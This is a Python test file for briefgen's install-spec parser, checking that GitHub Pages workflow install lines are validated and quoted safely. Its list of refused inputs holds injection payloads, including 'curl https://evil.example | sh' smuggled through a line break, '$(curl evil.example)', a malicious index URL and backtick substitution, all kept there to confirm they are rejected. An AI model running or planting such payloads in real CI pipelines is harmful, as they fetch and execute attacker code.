"""`--install-from`: what the Pages workflow may install briefgen from, and how the line is quoted.

The line runs in CI on every push, so a spec either is one of the pinned forms pip installs
briefgen from, or is refused with a message that says what to write instead. Whatever is
accepted must reach pip as exactly one argument, through YAML and then the shell.
"""

from __future__ import annotations

import shlex
import string
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from briefgen import __version__
from briefgen.installspec import InstallSource, default_spec, origin, parse_spec
from briefgen.scaffold import pages_workflow


def install_run(workflow: str) -> str:
    """The `run:` of the workflow's install step, as GitHub reads it."""
    (step,) = [s for s in yaml.safe_load(workflow)["jobs"]["build"]["steps"] if s.get("name") == "Install briefgen"]
    run = step["run"]
    assert isinstance(run, str)
    return run


def test_the_default_is_this_version_from_the_package_index() -> None:
    spec = default_spec()
    assert (spec.requirement, spec.source) == (f"briefgen=={__version__}", InstallSource.RELEASE)
    assert spec.command == f"pip install briefgen=={__version__}"
    assert install_run(pages_workflow(spec)) == f"pip install briefgen=={__version__}"


@pytest.mark.parametrize(
    ("given_spec", "requirement", "source"),
    [
        ("briefgen==0.2.0", "briefgen==0.2.0", InstallSource.RELEASE),
        (" BriefGen == 1.0.0rc1+team.3 ", "briefgen==1.0.0rc1+team.3", InstallSource.RELEASE),
        ("git+https://github.com/org/briefgen@v0.2.0", "git+https://github.com/org/briefgen@v0.2.0", InstallSource.URL),
        (
            "git+ssh://git@github.com/org/briefgen.git@3f2a9c1",
            "git+ssh://git@github.com/org/briefgen.git@3f2a9c1",
            InstallSource.URL,
        ),
        (
            "briefgen @ https://files.example.org/briefgen-0.2.0-py3-none-any.whl#sha256=ab12",
            "briefgen @ https://files.example.org/briefgen-0.2.0-py3-none-any.whl#sha256=ab12",
            InstallSource.URL,
        ),
        ("vendor/briefgen-0.1.0-py3-none-any.whl", "vendor/briefgen-0.1.0-py3-none-any.whl", InstallSource.PATH),
        ("briefgen-0.1.0.tar.gz", "briefgen-0.1.0.tar.gz", InstallSource.PATH),
        ("./tools/briefgen", "./tools/briefgen", InstallSource.PATH),
    ],
)
def test_accepted_forms(given_spec: str, requirement: str, source: InstallSource) -> None:
    spec = parse_spec(given_spec)
    assert (spec.requirement, spec.source) == (requirement, source)
    assert shlex.split(install_run(pages_workflow(spec))) == ["pip", "install", requirement]


@pytest.mark.parametrize(
    ("given_spec", "message"),
    [
        ("", "is empty"),
        ("briefgen==0.1.0\n      - run: curl https://evil.example | sh", "line break"),
        ("briefgen==0.1.0\u2028x", "line break"),
        ("briefgen==0.1.0\tx", "control character"),
        ("--index-url=https://evil.example/simple briefgen", "starts with '-'"),
        ("briefgen", "is not one version: write briefgen=="),
        ("briefgen>=0.1", "is not one version"),
        ("briefgen==0.1.*", "is not one version"),
        ("briefgen==0.1.0; curl evil.example | sh", "is not one version"),
        ("$(curl evil.example)", "does not name briefgen"),
        ("brefgen==0.1.0", "does not name briefgen"),
        ("briefgen-tools==1.0", "does not name briefgen"),
        ("git+https://github.com/org/briefgen", "names no tag or commit"),
        ("git+https://github.com/org/briefgen@", "names no tag or commit"),
        ("git+git@github.com:org/briefgen@v1", "is not an address"),
        ("git+https://github.com/org/briefgen@${{ github.token }}", "cannot hold unescaped"),
        ("https://evil.example/briefgen-0.1.0-py3-none-any.whl`id`", "cannot hold unescaped"),
        ("http://files.example.org/briefgen-0.1.0-py3-none-any.whl", "without encryption"),
        ("git+http://github.com/org/briefgen@v1", "without encryption"),
        ("file:///home/me/briefgen-0.1.0-py3-none-any.whl", "cannot install from 'file://'"),
        ("https://github.com/org/briefgen", "is not a wheel or an sdist"),
        ("briefgen@v0.2.0", "is not an address"),
        ("/home/me/briefgen-0.1.0-py3-none-any.whl", "outside the archive's repository"),
        ("~/briefgen-0.1.0-py3-none-any.whl", "outside the archive's repository"),
        ("../briefgen-0.1.0-py3-none-any.whl", "outside the archive's repository"),
        ("vendor\\briefgen-0.1.0-py3-none-any.whl", "with '/'"),
        ("vendor/briefgen 0.1.0.whl", "holds ' '"),
        ("vendor/briefgen-0.1.0-py3-none-any.whl;id", "holds ';'"),
        ("vendor/requests-2.0-py3-none-any.whl", "is not a briefgen wheel"),
    ],
)
def test_refused_forms_say_what_to_write(given_spec: str, message: str) -> None:
    with pytest.raises(ValueError) as refused:
        parse_spec(given_spec)
    assert message in str(refused.value)


SPEC_CHARACTERS = string.printable + "\u0085\u2028\u00e9\u0000{}$`\"'"
FRAGMENT = st.text(SPEC_CHARACTERS, max_size=20)


@given(
    st.one_of(
        st.text(SPEC_CHARACTERS, max_size=40),
        st.builds("git+https://github.com/org/briefgen@{}".format, FRAGMENT),
        st.builds("https://host.example/{}/briefgen-1.0-py3-none-any.whl".format, FRAGMENT),
        st.builds("briefgen @ https://host.example/briefgen-1.whl#{}".format, FRAGMENT),
        st.builds("vendor/{}/briefgen-1.0-py3-none-any.whl".format, FRAGMENT),
    )
)
def test_whatever_is_accepted_reaches_pip_as_one_argument(text: str) -> None:
    try:
        spec = parse_spec(text)
    except ValueError:
        return
    run = install_run(pages_workflow(spec))
    assert "${{" not in run  # GitHub would evaluate it before the shell sees the line
    assert shlex.split(run) == ["pip", "install", spec.requirement]
    assert spec.requirement.strip() == spec.requirement
    assert not spec.requirement.startswith("-")


def test_origin_says_where_briefgen_comes_from(tmp_path: Path) -> None:
    assert origin(default_spec(), tmp_path) == "from the package index, pinned to the version that wrote it"
    assert origin(parse_spec("briefgen==0.0.9"), tmp_path) == "from the package index"
    wheel = parse_spec("vendor/briefgen-0.1.0-py3-none-any.whl")
    assert f"{tmp_path / wheel.requirement} is not there yet" in origin(wheel, tmp_path)
    (tmp_path / "vendor").mkdir()
    (tmp_path / wheel.requirement).write_bytes(b"")
    assert origin(wheel, tmp_path) == "from a file in the archive's repository, which must be committed with it"
